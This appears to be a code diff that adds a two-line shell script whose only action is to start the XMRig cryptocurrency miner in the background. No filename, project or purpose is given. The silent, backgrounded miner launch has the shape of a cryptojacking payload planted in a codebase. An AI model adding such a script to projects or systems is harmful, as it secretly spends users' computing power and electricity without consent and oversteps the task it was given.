@@ -1,0 +1,2 @@
+#!/bin/sh
+xmrig --donate-level 1 --background
